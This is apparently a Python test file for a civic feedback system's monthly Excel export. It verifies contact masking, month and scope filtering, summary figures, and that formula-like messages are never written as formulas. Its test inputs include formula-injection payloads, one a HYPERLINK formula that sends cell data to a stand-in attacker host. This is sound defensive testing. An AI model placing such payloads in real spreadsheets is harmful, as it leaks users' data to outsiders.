"""The monthly .xlsx for the 专报: opened with openpyxl — masked contacts, formulas neutralised, the timeline."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from flask import g
from openpyxl import load_workbook
from sqlalchemy import insert, select, text

from backend.extensions import db
from backend.items.refs import new_access_key
from backend.models import AuditEntry, Item, ItemCategory, ItemChannel, ItemStatus, utcnow
from backend.stations.calendar import CHINA_TZ, today_in_china
from backend.supervision import export, stats
from tests.factories import build_outcomes, handle, rate, submit, supervision_world
from tests.helpers import login

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看详情")',
    "+1+1 加号开头的留言内容",
    "-2+3 减号开头的留言内容",
    "@SUM(1,2) 艾特开头的留言",
    "\t=1+2 制表符开头的留言",
]


WORLD = supervision_world  # the world fixture (tests/conftest.py)


def this_month() -> str:
    return today_in_china().strftime("%Y-%m")


def download(app, username: str, **args):
    client = login(app, username)
    response = client.get("/supervision/export.xlsx", query_string=args)
    response.get_data()  # read it all, then let the temporary file go, as a server does
    response.close()
    g.pop("csrf_token", None)
    return response


def rows_of(data: bytes, sheet: str = "民意件") -> list[list]:
    workbook = load_workbook(io.BytesIO(data))
    return [[cell for cell in row] for row in workbook[sheet].iter_rows()]


def test_the_month_with_masked_contacts_and_neutralised_formulas(app, client, world):
    items = [
        submit(client, world.d1, body, name="王桂芳", phone="13812341234")
        for body in [*FORMULAS, "我的电话是13987654321，请联系。"]
    ]
    handle(items[0], world.users["deputy"], "accept", "reply", "resolve")
    rate(client, items[0], "basically")
    response = download(app, "sup_county", region="430225", month=this_month())
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"

    rows = rows_of(response.data)
    header = [c.value for c in rows[0]]
    assert header[:9] == ["编号", "提交时间", "联络站", "代表", "类别", "渠道", "留言内容", "联系人", "联系电话"]
    body_col, name_col, phone_col = header.index("留言内容"), header.index("联系人"), header.index("联系电话")
    data = rows[1:]
    assert len(data) == len(items)
    by_body = {row[body_col].value: row for row in data}
    for item in items[: len(FORMULAS)]:
        assert export.is_formula_like(item.body), item.body  # stored as the resident wrote it
        cell = by_body[item.body][body_col]
        assert isinstance(cell.value, str) and cell.value == item.body  # the text as written, as text
        assert cell.data_type == "s" and cell.quotePrefix is True  # never a formula
    assert "我的电话是139****4321，请联系。" in by_body
    assert {row[name_col].value for row in data} == {"王**"}
    assert {row[phone_col].value for row in data} == {"138****1234"}
    # No cell anywhere is a formula, and no full number is anywhere in the file.
    workbook = load_workbook(io.BytesIO(response.data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    raw = b"".join(archive.read(name) for name in archive.namelist())
    assert b"13812341234" not in raw and b"13987654321" not in raw and "王桂芳".encode() not in raw

    first = by_body[FORMULAS[0]]
    timeline = first[header.index("办理过程")].value
    for step in ("群众留言", "受理", "答复群众", "办结（已解决）", "群众评价：基本满意"):
        assert step in timeline
    assert first[header.index("群众评价")].value == "基本满意"
    assert first[header.index("最近一次答复")].value == "已联系有关部门，正在处理。"

    audit = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "stats_exported"))
    assert audit.object_type == "region" and audit.object_id == "430225" and audit.data["month"] == this_month()


def test_the_summary_sheet_carries_the_month_figures(app, client, world):
    build_outcomes(client, world)
    app.config["STATS_MIN_SAMPLE"] = 1
    response = download(app, "admin_a", month=this_month())
    summary = {row[0].value: row[1].value for row in rows_of(response.data, "汇总") if row and row[0].value}
    assert summary["收到留言（件）"] == 11
    assert summary["有效件（件）"] == 9
    assert summary["答复率"] == f"{7 / 9 * 100:.1f}%"
    assert summary["满意率"] == "75.0%"
    assert summary["见面率"] == "暂无数据"
    assert len(rows_of(response.data)) == 1 + 11  # the header, then the month's items (held ones excluded)


def test_only_the_month_and_the_scope(app, client, world):
    inside = submit(client, world.d1, "三月份最后一刻提交的留言。")
    inside.created_at = datetime(2026, 3, 31, 23, 59, tzinfo=CHINA_TZ).astimezone(UTC)
    after = submit(client, world.d1, "四月一日零点提交的留言。")
    after.created_at = datetime(2026, 4, 1, tzinfo=CHINA_TZ).astimezone(UTC)
    other_station = submit(client, world.d3, "沔渡镇三月份的留言。")
    other_station.created_at = inside.created_at
    db.session.commit()
    response = download(app, "deputy_d1", month="2026-03")
    bodies = [row[6].value for row in rows_of(response.data)[1:]]
    assert bodies == ["三月份最后一刻提交的留言。"]


@pytest.mark.parametrize("month", ["", "2026-13", "2026/03", "march"])
def test_a_bad_month_is_refused(app, world, month):
    assert download(app, "sup_county", month=month).status_code == 400


def test_text_cells_neutralise_every_formula_start():
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    for value in ["=1", "+1", "-1", "@a", "\tx", "\rx"]:
        cell = export.text_cell(sheet, value)
        assert cell.data_type == "s" and cell.quotePrefix is True
    assert export.text_cell(sheet, "普通留言 = 没问题") == "普通留言 = 没问题"  # plain text stays a plain value
    assert export.text_cell(sheet, "控制\x07字符") == "控制字符"
    wrapped = export.text_cell(sheet, "=长文本", wrap=True)
    assert wrapped.quotePrefix is True and wrapped.alignment.wrap_text is True


def test_ten_thousand_items_in_flat_memory(app, world):
    """10,000 items of one month (inserted in bulk: the export is what is measured)."""
    month_start = datetime(2026, 3, 1, tzinfo=CHINA_TZ).astimezone(UTC)
    rows = [
        {
            "ref": f"T{n:07d}",
            "access_key": new_access_key(),
            "station_id": world.station_a.id,
            "deputy_id": world.d1.id,
            "channel": ItemChannel.QR_H5,
            "category": ItemCategory.URBAN,
            "body": f"第{n}件：村口路灯坏了三个月，晚上出行很不方便，老人孩子容易摔倒，希望尽快修复。" * 2,
            "contact_name": "王桂芳",
            "contact_phone": "13812341234",
            "status": ItemStatus.SUBMITTED,
            "created_at": month_start + timedelta(minutes=4 * n),
            "updated_at": month_start + timedelta(minutes=4 * n),
            "due_at": utcnow() + timedelta(days=2),
        }
        for n in range(10_000)
    ]
    db.session.execute(insert(Item), rows)
    db.session.commit()
    scope = stats.Scope("station", station=world.station_a)
    out = io.BytesIO()
    tracemalloc.start()
    try:
        written = export.write_month(scope, date(2026, 3, 1), out)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written == 10_000
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet2.xml")
    assert sheet_xml.count(b"<row ") == 10_001 and b"13812341234" not in sheet_xml
    _drop_items()


def _drop_items() -> None:
    """Remove the bulk rows in one go: row by row, each delete checks the unindexed self-reference
    ``items.duplicate_of_id`` against the whole table (minutes for 10,000 rows)."""
    db.session.commit()
    if db.engine.dialect.name == "postgresql":
        db.session.execute(text("TRUNCATE items CASCADE"))
        db.session.commit()
        return
    raw = db.engine.raw_connection()
    try:
        # A pooled connection may come from a read transaction (query_only on): this one writes, and is then
        # thrown away, since its pragmas no longer match what backend.database recorded of it.
        raw.execute("PRAGMA query_only = 0")
        raw.execute("PRAGMA foreign_keys = OFF")
        raw.execute("DELETE FROM items")
        raw.commit()
    finally:
        raw.invalidate()
